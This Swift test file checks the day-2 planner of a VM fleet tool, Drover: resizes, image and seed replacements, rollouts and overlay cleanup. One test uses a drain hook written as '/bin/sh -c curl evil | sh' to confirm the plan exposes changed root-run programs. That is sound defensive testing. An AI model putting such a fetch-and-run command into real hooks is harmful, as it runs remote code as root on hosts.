import DroverBasics
import DroverModel
import DroverPlan
import DroverRollout
import Testing

/// Day-2 decisions as a pure function: what each kind of change does to an existing node.
@Suite struct Day2PlannerTests {
  static let host = "test:///default"

  static func pool(replicas: Int = 2, image: String = "demo@v1") -> PoolSpec {
    PoolSpec(name: "web", hosts: [host], replicas: replicas, image: ImageRef(parsing: image)!)
  }

  /// A node as Drover wrote it, with its real config matching its record and its own overlay.
  static func node(_ spec: PoolSpec, _ index: Int, generation: Int = 1, project: String = "default") -> ObservedDomain {
    var o = desiredOwnership(spec, index: index, digest: "d1", generation: generation, project: project)
    let volume = OverlayName(project: project, pool: spec.name, index: index, generation: generation).volume
    o.disk = "drover-images/\(volume)"
    var d = ObservedDomain(name: o.node, uuid: "uuid-\(index)", state: "running", isActive: true, ownership: o, metadataDigest: "m\(index)", trust: .verified)
    d.actual = DomainShape(
      vcpu: o.vcpu, maxVcpu: o.vcpu, memoryKiB: o.memoryMiB * 1024, liveVcpu: o.vcpu, liveMemoryKiB: o.memoryMiB * 1024, disks: [o.disk],
      networks: [], title: nil)
    return d
  }

  static func world(_ domains: [ObservedDomain], overlays: [String]? = nil) -> ObservedWorld {
    let used = domains.compactMap { $0.ownership?.disk.split(separator: "/").last.map(String.init) }
    return ObservedWorld(hosts: [host: ObservedHost(uri: host, domains: domains, overlays: overlays ?? used)])
  }

  func plan(_ spec: PoolSpec, _ world: ObservedWorld, options: PlanOptions = PlanOptions()) -> (Plan, [Diagnostic]) {
    makePlan(pools: [spec], observed: world, options: options)
  }

  @Test func memoryChangeRestartsOnTheSameDiskAndGeneration() throws {
    let before = Self.pool()
    var after = before
    after.resources.memory = .mebibytes(512)
    let (p, _) = plan(after, Self.world([Self.node(before, 1), Self.node(before, 2)]))
    #expect(p.actions.map(\.kind) == [.update, .update])
    let a = p.actions[0]
    #expect(a.restart)
    let o = try #require(a.after?.ownership)
    #expect(o.generation == 1 && o.disk == a.before?.disk && o.digest == "d1" && o.memoryMiB == 512)
    #expect(p.rollouts.isEmpty, "a resize is not a replacement")
  }

  @Test func labelAndProtectChangesAreInPlaceWithoutRestart() throws {
    let before = Self.pool(replicas: 1)
    var after = before
    after.labels = ["team": "sre"]
    after.protect = true
    let (p, _) = plan(after, Self.world([Self.node(before, 1)]))
    #expect(p.actions.map(\.kind) == [.update])
    #expect(!p.actions[0].restart && p.actions[0].reason.hasSuffix("(in place)"))
    #expect(p.actions[0].after?.ownership.generation == 1 && p.actions[0].after?.ownership.disk == p.actions[0].before?.disk)
  }

  /// Image, disk size, network and --replace are replacements with a rollout that names the old
  /// domain's UUID and the next generation.
  @Test(arguments: ["image", "disk", "network", "replace"])
  func replacementsGoThroughARollout(_ change: String) throws {
    let before = Self.pool(replicas: 1)
    var after = before
    var options = PlanOptions()
    switch change {
    case "image": after.image = ImageRef(parsing: "demo@v2")!
    case "disk": after.resources.disk = .mebibytes(2048)
    case "network": after.network = "default"
    default: options.forceReplace = ["web-1"]
    }
    let (p, _) = plan(after, Self.world([Self.node(before, 1)]), options: options)
    #expect(p.actions.map(\.kind) == [.replace])
    let rollout = try #require(p.rollouts.first)
    #expect(rollout.nodes.map(\.oldUUID) == ["uuid-1"])
    #expect(rollout.nodes.first?.to.generation == 2)
    #expect(rollout.schedule == [["web-1"]])
  }

  /// #18: a seed is read once per instance, so what goes into it — keys, user-data, static
  /// addresses, an ssh check (Drover's user) — replaces the nodes; a replacement on static
  /// addresses takes its index's other one, whatever its generation.
  @Test(arguments: ["keys", "user-data", "addresses", "ssh check", "addresses moved"])
  func seedChangesReplaceTheNodes(_ change: String) throws {
    var before = Self.pool(replicas: 1)
    before.network = "default"
    if change == "addresses moved" { before.staticAddresses = StaticAddresses(first: StaticAddresses.parse("10.0.0.10")!, prefix: 24) }
    var after = before
    switch change {
    case "keys": after.sshKeys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGaGq023EN6J+R0I3HrvPPTY3ngYIddJVT8SBxoEnYno ops"]
    case "user-data": after.userData = "#cloud-config\n{}\n"
    case "ssh check": after.health = [HealthCheckSpec(kind: .ssh(command: "true", outputPattern: nil))]
    default: after.staticAddresses = StaticAddresses(first: StaticAddresses.parse("10.0.0.20")!, prefix: 24)
    }
    var existing = Self.node(before, 1, generation: 4)
    existing.actual?.networks = ["default"]
    let (p, _) = plan(after, Self.world([existing]))
    #expect(p.actions.map(\.kind) == [.replace], "\(p.actions.map(\.reason))")
    #expect(p.actions.first?.reason.contains("cloud-init seed") == true, "\(p.actions.map(\.reason))")
    let to = try #require(p.rollouts.first?.nodes.first?.to)
    #expect(to.seed == CloudInitSeed.digest(after) && to.seed != nil)
    if change.hasPrefix("addresses") { #expect(to.address == "10.0.0.20", "generation \(to.generation) still takes the index's first slot") }
    // The same spec again: no change.
    let (same, _) = plan(before, Self.world([existing]))
    #expect(same.actions.isEmpty, "\(same.actions.map(\.reason))")
  }

  @Test func aChangeMadeOutsideDroverIsConverged() throws {
    let spec = Self.pool(replicas: 1)
    var d = Self.node(spec, 1)
    d.actual?.vcpu = 2
    d.actual?.maxVcpu = 2
    let (p, _) = plan(spec, Self.world([d]))
    #expect(p.actions.map(\.kind) == [.update])
    #expect(p.actions[0].reason.contains("changed outside Drover: vcpu 2 → 1"))
    #expect(p.actions[0].restart)

    var swapped = Self.node(spec, 1)
    swapped.actual?.disks = ["/tmp/other.qcow2"]
    let (q, _) = plan(spec, Self.world([swapped]))
    #expect(q.actions.map(\.kind) == [.replace])
    #expect(q.actions[0].reason.contains("changed outside Drover: disk /tmp/other.qcow2"))
  }

  @Test func aNodeThatFailedItsHealthCheckAtCreationIsReplaced() {
    let spec = Self.pool(replicas: 1)
    var d = Self.node(spec, 1)
    d.ownership?.healthFailed = true
    let (p, _) = plan(spec, Self.world([d]))
    #expect(p.actions.map(\.kind) == [.replace])
    #expect(p.actions[0].reason == "failed its health check at creation")
  }

  @Test func orphanedOverlaysOfThisProjectAreRemovedAndOthersLeftAlone() {
    let spec = Self.pool(replicas: 1)
    let orphan = OverlayName(project: "default", pool: "web", index: 2, generation: 3).volume
    let otherProject = OverlayName(project: "other", pool: "web", index: 1, generation: 1).volume
    let used = OverlayName(project: "default", pool: "web", index: 1, generation: 1).volume
    let (p, _) = plan(spec, Self.world([Self.node(spec, 1)], overlays: [used, orphan, otherProject, "someone-elses.qcow2"]))
    #expect(p.actions.map { "\($0.kind.rawValue) \($0.node)" } == ["remove-overlay \(orphan)"])
    #expect(p.summary.destroy == 1)
  }

  @Test func aNewNodeNeverReusesTheGenerationOfALeftOverOverlay() {
    let spec = Self.pool(replicas: 2)
    let leftover = OverlayName(project: "default", pool: "web", index: 2, generation: 4).volume
    let (p, _) = plan(spec, Self.world([Self.node(spec, 1)], overlays: [OverlayName(project: "default", pool: "web", index: 1, generation: 1).volume, leftover]))
    let create = p.actions.first { $0.kind == .create }
    #expect(create?.after?.ownership.generation == 5)
    #expect(p.actions.contains { $0.kind == .removeOverlay && $0.node == leftover })
  }

  /// An image change together with a scale-up or a scale-down: every action is in the plan and the
  /// rollout covers exactly the replaced nodes.
  @Test(arguments: [3, 1])
  func imageChangeWithScalingPlansEverything(_ replicas: Int) throws {
    let before = Self.pool(replicas: 2)
    var after = Self.pool(replicas: replicas, image: "demo@v2")
    after.upgrade.canary = .count(1)
    let (p, _) = plan(after, Self.world([Self.node(before, 1), Self.node(before, 2)]))
    if replicas == 3 {
      #expect(p.actions.map { "\($0.kind.rawValue) \($0.node)" } == ["replace web-1", "replace web-2", "create web-3"])
      #expect(p.rollouts.first?.nodes.map(\.key) == ["web-1", "web-2"])
    } else {
      #expect(p.actions.map { "\($0.kind.rawValue) \($0.node)" } == ["replace web-1", "delete web-2"])
      #expect(p.rollouts.first?.nodes.map(\.key) == ["web-1"])
    }
  }

  @Test func aRolloutInProgressOwnsItsNodesAndRefusesMore() throws {
    let spec = Self.pool(replicas: 2, image: "demo@v2")
    let v1 = Self.pool(replicas: 2)
    let node = RolloutNode(
      key: "web-1", index: 1, host: Self.host, oldName: "web-1", oldUUID: "uuid-1", from: Self.node(v1, 1).ownership!,
      to: desiredOwnership(spec, index: 1, digest: "", generation: 2, project: "default"), reason: "image")
    let state = RolloutState(
      id: "r1", pool: "web", fromImage: "demo@v1", toImage: "demo@v2", schedule: [["web-1"]],
      policy: RolloutPolicy(canary: 1, waves: [], maxSurge: 1, maxUnavailable: 0, budget: 0), nodes: [node])
    // Mid-surge: the old web-1 and the new web-1-g2 both exist; neither is a "duplicate".
    var fresh = Self.node(spec, 1, generation: 2)
    fresh.name = "web-1-g2"
    fresh.ownership?.node = "web-1-g2"
    fresh.uuid = "uuid-new"
    let (p, diagnostics) = plan(spec, Self.world([Self.node(v1, 1), fresh, Self.node(v1, 2)]), options: PlanOptions(activeRollouts: ["web": state]))
    #expect(!p.actions.contains { $0.node.hasPrefix("web-1") }, "\(p.actions.map(\.node))")
    #expect(p.rollouts.first?.resumes == "r1")
    #expect(diagnostics.map(\.code) == ["plan.rollout-in-progress"], "web-2 would need another rollout")

    // The spec changed under the rollout (v1 → v2 killed, now v3): never mixed, plan refuses and
    // says how out; only rollout resume|abort (which follow the journal) go on.
    let v3 = Self.pool(replicas: 2, image: "demo@v3")
    let (_, changed) = plan(v3, Self.world([Self.node(v1, 1), fresh, Self.node(v1, 2)]), options: PlanOptions(activeRollouts: ["web": state]))
    let refusal = try #require(changed.first { $0.code == "plan.rollout-spec-changed" })
    #expect(refusal.message.contains("the spec now asks demo@v3") && refusal.hint?.contains("drover rollout resume web") == true)
    var resuming = PlanOptions(activeRollouts: ["web": state])
    resuming.resuming = true
    let (_, resumed) = plan(v3, Self.world([Self.node(v1, 1), fresh, Self.node(v1, 2)]), options: resuming)
    #expect(!resumed.contains { $0.code == "plan.rollout-spec-changed" })
  }

  /// A rollout this machine's journal does not run, seen in the records' marks: named, its nodes
  /// (the surge node too) left alone; once the journal here knows it ended, the marks are cleared.
  @Test func aRolloutRunElsewhereIsSeenInTheMarks() throws {
    let v1 = Self.pool(replicas: 2)
    let v2 = Self.pool(replicas: 2, image: "demo@v2")
    let mark = RolloutMark(id: "web-42", phase: "canary", fromImage: "demo@v1", toImage: "demo@v2", by: "ci-7/1234", total: 2)
    var surge = Self.node(v2, 1, generation: 2)
    surge.name = "web-1-g2"
    surge.ownership?.node = "web-1-g2"
    surge.ownership?.rollout = mark
    surge.uuid = "uuid-surge"
    let world = Self.world([Self.node(v1, 1), surge, Self.node(v1, 2)])
    let (p, diagnostics) = plan(v2, world)
    let elsewhere = try #require(diagnostics.first { $0.code == "plan.rollout-elsewhere" })
    #expect(elsewhere.message.contains("rollout web-42 of pool web is in progress (demo@v1 → demo@v2, 1 of 2 done, by ci-7/1234)"))
    #expect(!p.actions.contains { $0.node.hasPrefix("web-1") }, "the marked index is the rollout's: no duplicate delete: \(p.actions.map(\.node))")

    var finished = PlanOptions()
    finished.finishedRollouts = ["web-42"]
    var done = Self.node(v2, 1, generation: 2)
    done.ownership?.rollout = mark
    let (cleared, none) = plan(v2, Self.world([done, Self.node(v2, 2)]), options: finished)
    #expect(!none.contains { $0.code == "plan.rollout-elsewhere" })
    #expect(cleared.actions.map(\.reason) == ["clears the mark of finished rollout web-42 (in place)"], "\(cleared.actions.map(\.reason))")

    // The journal here says web-1 was replaced, but no node carries the rollout's mark.
    let node = RolloutNode(
      key: "web-1", index: 1, host: Self.host, oldName: "web-1", oldUUID: "uuid-1", from: Self.node(v1, 1).ownership!,
      to: desiredOwnership(v2, index: 1, digest: "", generation: 2, project: "default"), reason: "image")
    let second = RolloutNode(
      key: "web-2", index: 2, host: Self.host, oldName: "web-2", oldUUID: "uuid-2", from: Self.node(v1, 2).ownership!,
      to: desiredOwnership(v2, index: 2, digest: "", generation: 2, project: "default"), reason: "image")
    var state = RolloutState(
      id: "web-43", pool: "web", fromImage: "demo@v1", toImage: "demo@v2", schedule: [["web-1"], ["web-2"]],
      policy: RolloutPolicy(canary: 1, waves: [1], maxSurge: 1, maxUnavailable: 0, budget: 0), nodes: [node, second])
    state.done = ["web-1"]
    let (_, disagree) = plan(v2, Self.world([Self.node(v2, 1, generation: 2), Self.node(v1, 2)]), options: PlanOptions(activeRollouts: ["web": state]))
    #expect(disagree.contains { $0.code == "plan.rollout-journal-mismatch" && $0.message.contains("replaced web-1, but no node carries its mark") })
    state.done = []
    let (_, fresh) = plan(v2, Self.world([Self.node(v1, 1), Self.node(v1, 2)]), options: PlanOptions(activeRollouts: ["web": state]))
    #expect(!fresh.contains { $0.code == "plan.rollout-journal-mismatch" }, "a rollout that replaced nothing yet has no mark to show")
    state.done = ["web-1", "web-2"]
    let (_, ended) = plan(v2, Self.world([Self.node(v2, 1, generation: 2), Self.node(v2, 2, generation: 2)]), options: PlanOptions(activeRollouts: ["web": state]))
    #expect(!ended.contains { $0.code == "plan.rollout-journal-mismatch" }, "killed after clearing its marks, before journaling the end")
  }

  /// A pull request that changes a drain hook or a command health check changes what runs as root:
  /// the plan lists the programs of every pool it touches and marks the change on each node (#16).
  @Test func aChangedHookIsShownInThePlan() throws {
    var before = Self.pool(replicas: 1)
    before.health = [HealthCheckSpec(kind: .command(argv: ["/usr/local/bin/check"]))]
    var after = before
    after.drain = DrainSpec(backend: .command(cordon: ["/bin/sh", "-c", "curl evil | sh"], drain: nil, uncordon: nil))
    let (p, diagnostics) = plan(after, Self.world([Self.node(before, 1)]))
    #expect(diagnostics.isEmpty)
    #expect(p.actions.map(\.kind) == [.update] && p.actions[0].reason.contains("the programs this pool runs on this machine changed"), "\(p.actions.map(\.reason))")
    #expect(p.programs["web"] == ["drain cordon: [\"/bin/sh\", \"-c\", \"curl evil | sh\"]", "health check: [\"/usr/local/bin/check\"]"])
    let (same, _) = plan(before, Self.world([Self.node(before, 1)]))
    #expect(same.actions.isEmpty && same.programs.isEmpty, "unchanged: nothing to show")
    var unrecorded = Self.node(before, 1)
    unrecorded.ownership?.hooks = ""
    #expect(plan(after, Self.world([unrecorded])).0.actions.isEmpty, "a record from before hooks were recorded plans no change")
  }

  /// Only the canonical spelling is Drover's: anything else in the pool is never removed.
  @Test(arguments: [
    ("drover.p.web-1.g1.qcow2", true), ("drover.p.web-01.g1.qcow2", false), ("drover.p.web-1.g+1.qcow2", false),
    ("drover.p.web-1.g9223372036854775807.qcow2", false), ("drover.p.Web-1.g1.qcow2", false), ("drover..web-1.g1.qcow2", false),
    ("node-web-1-g1.qcow2", false), ("drover.p.web-1.g1.qcow2.bak", false),
  ])
  func overlayNamesAreCanonical(_ volume: String, _ drovers: Bool) {
    #expect((OverlayName(volume: volume) != nil) == drovers, "\(volume)")
  }

  @Test func aSavedPlanWithAMissingFieldIsAnErrorNotACrash() {
    let broken = PlannedAction(kind: .update, pool: "web", node: "web-1", host: Self.host, reason: "edited")
    #expect(throws: Diagnostic.self) { try broken.payload() }
  }
}
